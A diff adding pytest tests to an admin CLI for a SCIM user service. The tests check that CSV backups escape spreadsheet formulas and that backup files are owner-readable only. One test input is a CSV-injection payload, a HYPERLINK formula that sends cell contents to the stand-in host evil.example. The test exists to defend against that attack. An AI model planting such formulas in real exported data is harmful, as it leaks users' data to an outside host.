@@ -15,6 +15,7 @@ from admin.__main__ import main
 from admin.target import TargetError, use_stage
 from chalicelib import stage_secrets
 from chalicelib.config import settings
+from chalicelib.store.role_mappings import RoleMapping, RoleMappingTable
 from tests.conftest import Scim, dynamodb_client, user_body
 
 STAGE = ["--stage", "test"]
@@ -141,6 +142,45 @@ def test_backup_exports_users_with_roles_and_restores_mappings(
     run(capsys, "roles", "delete", "acme", "Finance")
     assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "csv"))[0] == 0
     assert run(capsys, "roles", "show", "acme", "Finance")[0] == 0
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_backup_never_holds_a_formula_and_restores_the_same_names(
+    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
+) -> None:
+    # An IdP's userName or externalId starting with "=" became a spreadsheet formula (CSV injection).
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    scim.post("/Users", user_body("carol@example.com", externalId=formula))
+    mappings = RoleMappingTable(dynamodb_client(), settings().role_mappings_table, "acme")
+    mappings.put(RoleMapping(f"{start}Finance", (f"{start}Payroll",), ()))
+
+    assert run(capsys, "backup", "export", "acme", "--format", "csv", "--output", str(tmp_path / "csv"))[0] == 0
+
+    for name in ("users.csv", "role_mappings.csv"):
+        with (tmp_path / "csv" / name).open(newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    with (tmp_path / "csv" / "users.csv").open(newline="") as file:
+        assert next(csv.DictReader(file))["external_id"] == "'" + formula
+    mappings.delete(f"{start}Finance")
+    assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "csv"))[0] == 0
+    restored = f"{start}Finance".strip()  # a restore trims names, a leading tab or CR too
+    assert mappings.get(restored) == RoleMapping(restored, (f"{start}Payroll".strip(),), ())
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv"])
+def test_backup_files_are_readable_by_their_owner_only(
+    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+) -> None:
+    output = tmp_path / f"backup.{fmt}"
+    if fmt == "json":
+        output.write_text("an older backup, world-readable")
+        output.chmod(0o644)
+
+    assert run(capsys, "backup", "export", "acme", "--format", fmt, "--output", str(output))[0] == 0
+
+    files = [output] if fmt == "json" else [output / "users.csv", output / "role_mappings.csv"]
+    assert [oct(path.stat().st_mode & 0o777) for path in files] == [oct(0o600)] * len(files)
 
 
 def test_without_a_running_make_run_the_cli_says_what_to_do(
